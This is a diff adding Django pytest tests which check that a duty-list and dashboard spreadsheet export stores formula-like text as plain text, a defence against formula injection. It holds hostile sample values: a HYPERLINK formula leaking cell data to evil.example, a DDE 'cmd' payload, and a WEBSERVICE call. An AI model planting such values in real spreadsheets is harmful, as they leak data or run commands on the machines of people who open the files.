@@ -1,0 +1,59 @@
+"""Exports store what people typed as text: no cell of a spreadsheet the product writes is a formula (等保2.0
+level 3, 入侵防范: formula injection), whatever the text starts with."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from tests import support
+
+HOSTILE = {
+    "legal_basis": '=HYPERLINK("http://evil.example/?"&A1,"点击查看依据")',
+    "funding_source": "+1+cmd|' /C calc'!A0",
+    "technical_support": "-2+3",
+    "training": "@SUM(1,2)",
+    "operating_mechanism": "\t=1+1",
+}
+
+
+@pytest.fixture
+def hostile_duty(banner):
+    values = {k: v for k, v in HOSTILE.items() if k != "operating_mechanism"}
+    return support.admitted(banner, **values).township_duties.order_by("pk").first()
+
+
+def test_the_duty_list_spreadsheet_keeps_formula_like_text_as_text(client, banner, hostile_duty):
+    client.force_login(banner.users["office"])
+    response = client.get(reverse("admission:duty_list"), {"format": "xlsx"})
+    assert response.status_code == 200
+
+    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
+        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in package.read(n) or b"<f " in package.read(n) for n in sheets)
+    cells = [cell for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    for field in ("legal_basis", "funding_source", "technical_support", "training"):
+        assert HOSTILE[field] in texts, f"{field} was altered or lost"
+
+
+def test_the_dashboard_spreadsheet_keeps_a_refusals_formula_like_reasons_as_text(client, banner):
+    from workflows.driver import CaseDriver
+
+    duty_request = support.to_under_review(banner)
+    support.bureau_opinions(banner, duty_request)
+    support.conclude(banner, duty_request)
+    CaseDriver(duty_request).decide_at_banner(
+        banner.users["leadership"], approves=False, reasons='=WEBSERVICE("http://evil.example") 经费来源不明确')
+
+    client.force_login(banner.users["office"])
+    response = client.get(reverse("admission:dashboard"), {"format": "xlsx"})
+    book = load_workbook(io.BytesIO(response.content))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert '=WEBSERVICE("http://evil.example") 经费来源不明确' in {c.value for c in cells}
